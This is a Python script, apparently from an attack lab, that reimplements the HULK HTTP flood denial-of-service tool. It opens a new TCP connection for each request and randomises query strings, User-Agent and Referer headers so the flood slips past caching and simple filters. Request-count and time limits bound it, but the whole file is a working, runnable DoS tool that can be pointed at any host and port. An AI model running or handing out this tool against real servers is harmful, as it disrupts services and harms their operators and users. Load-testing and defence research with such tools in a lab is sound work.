#!/usr/bin/env python3
"""HULK-like HTTP flood for the attack lab (standard library only): every request on a new TCP
connection, with a random URL query, User-Agent and Referer so no two requests look alike (the
behaviour of the original HULK tool). Bounded by --requests and --seconds.

Usage: hulk.py HOST PORT [--requests N] [--threads T] [--seconds S] [--seed N]
"""
import argparse
import random
import socket
import threading
import time

AGENTS = ["Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0",
          "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0 Safari/537.36",
          "Mozilla/5.0 (Macintosh; Intel Mac OS X 13_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/16.6 Safari/605.1.15",
          "Opera/9.80 (Windows NT 6.1; U; en) Presto/2.9.168 Version/11.51"]
REFERERS = ["http://www.google.com/?q=", "http://www.bing.com/search?q=", "http://www.usatoday.com/search/results?q="]


def word(r, n):
    return "".join(chr(r.randrange(65, 91)) for _ in range(n))


def worker(host, port, budget, deadline, seed, sent):
    r = random.Random(seed)
    while time.monotonic() < deadline:
        with budget[1]:
            if budget[0] <= 0:
                return
            budget[0] -= 1
        path = f"/?{word(r, r.randrange(3, 10))}={word(r, r.randrange(3, 10))}"
        req = (f"GET {path} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {r.choice(AGENTS)}\r\n"
               f"Cache-Control: no-cache\r\nAccept-Charset: ISO-8859-1,utf-8;q=0.7,*;q=0.7\r\n"
               f"Referer: {r.choice(REFERERS)}{word(r, r.randrange(5, 10))}\r\n"
               f"Keep-Alive: {r.randrange(110, 120)}\r\nConnection: keep-alive\r\n\r\n")
        try:
            with socket.create_connection((host, port), timeout=3) as s:
                s.sendall(req.encode())
                s.recv(4096)  # read the start of the answer, then drop the connection
            sent[0] += 1
        except OSError:
            time.sleep(0.01)


def main():
    p = argparse.ArgumentParser()
    p.add_argument("host")
    p.add_argument("port", type=int)
    p.add_argument("--requests", type=int, default=5000)
    p.add_argument("--threads", type=int, default=8)
    p.add_argument("--seconds", type=float, default=30)
    p.add_argument("--seed", type=int, default=1)
    a = p.parse_args()
    budget = [a.requests, threading.Lock()]
    sent = [0]
    deadline = time.monotonic() + a.seconds
    threads = [threading.Thread(target=worker, args=(a.host, a.port, budget, deadline, a.seed * 100 + i, sent))
               for i in range(a.threads)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    print(f"hulk.py: {sent[0]} requests")


if __name__ == "__main__":
    main()
